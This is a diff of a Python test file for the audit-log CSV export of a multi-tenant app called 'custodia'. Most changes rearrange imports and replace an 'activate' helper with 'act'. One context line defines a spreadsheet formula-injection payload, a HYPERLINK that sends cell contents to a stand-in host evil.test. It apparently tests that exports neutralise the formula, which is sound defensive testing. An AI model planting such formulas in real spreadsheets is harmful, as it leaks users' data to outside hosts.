@@ -8,11 +8,12 @@ from typing import Any
 
 import pytest
 
-from custodia.audit import access, export
+from custodia.api.audit import export
+from custodia.audit import access
 from custodia.audit.access import EventFilters
-from custodia.audit.actions import record
-from custodia.audit.events import AuditAction
-from custodia.tenancy.context import Actor, activate
+from custodia.core.actor import Actor
+from custodia.core.audit import AuditAction, record
+from tests.acting import act
 from tests.factories import TenantMatrix
 from tests.web.support import actor_for
 
@@ -22,7 +23,7 @@ HOSTILE_AGENT = '=HYPERLINK("https://evil.test/?leak="&A1,"Click")'
 
 
 def exports_of(owner: Actor) -> list[Any]:
-    activate(owner)
+    act(owner)
     return list(access.list_events(owner, EventFilters(action=AuditAction.AUDIT_EXPORT)))
 
 
@@ -34,9 +35,9 @@ def parse_csv(response: Any) -> list[dict[str, str]]:
 def trail(matrix: TenantMatrix) -> TenantMatrix:
     """A's staff read A's client twice; B's staff read B's client."""
     for business in (matrix.a, matrix.b):
-        activate(business.staff)
+        act(business.staff)
         record(AuditAction.CLIENT_READ, actor=business.staff, target=business.client)
-    activate(matrix.a.staff)
+    act(matrix.a.staff)
     record(AuditAction.CLIENT_READ, actor=matrix.a.staff, target=matrix.a.client)
     return matrix
 
